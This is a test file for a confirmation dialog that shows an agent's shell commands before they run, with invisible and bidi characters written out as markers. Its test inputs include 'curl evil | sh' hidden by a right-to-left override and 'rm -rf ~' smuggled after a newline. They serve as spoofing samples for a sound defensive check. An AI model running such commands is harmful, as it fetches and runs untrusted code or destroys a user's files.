/**
 * The native box the main process shows before a `!command` write (command-confirmation.ts):
 * it names each command as pi will run it, with bidi and invisible characters written out, and only
 * the write button allows it (Escape and closing the box answer Cancel). Electron cannot run here;
 * ipc.ts hands these options to dialog.showMessageBox on the window that sent the write.
 */
import { describe, expect, it } from "vitest";
import { allowsCommands, commandConfirmationBox } from "../../../src-main/electron/command-confirmation.js";

describe("commandConfirmationBox", () => {
  it("names the command exactly and defaults to Cancel", () => {
    const box = commandConfirmationBox(["!pass show openrouter"]);
    expect(box.message).toBe("pi will run this command");
    expect(box.detail!.split("\n")[0]).toBe("!pass show openrouter");
    expect(box.buttons![box.defaultId!]).toBe("Cancel");
    expect(box.cancelId).toBe(box.defaultId);
    expect(allowsCommands(box.cancelId!)).toBe(false);
    expect(allowsCommands(box.buttons!.indexOf("Write and let pi run it"))).toBe(true);
  });

  it("shows a right-to-left override and a newline as markers, so a command cannot pass for another", () => {
    const box = commandConfirmationBox(["!echo safe\u202E; curl evil | sh", "!true\nrm -rf ~"]);
    expect(box.message).toBe("pi will run these 2 commands");
    const [first, second] = box.detail!.split("\n");
    expect(first).toBe("!echo safe⟨U+202E⟩; curl evil | sh");
    expect(second).toBe("!true⟨U+000A⟩rm -rf ~");
  });
});
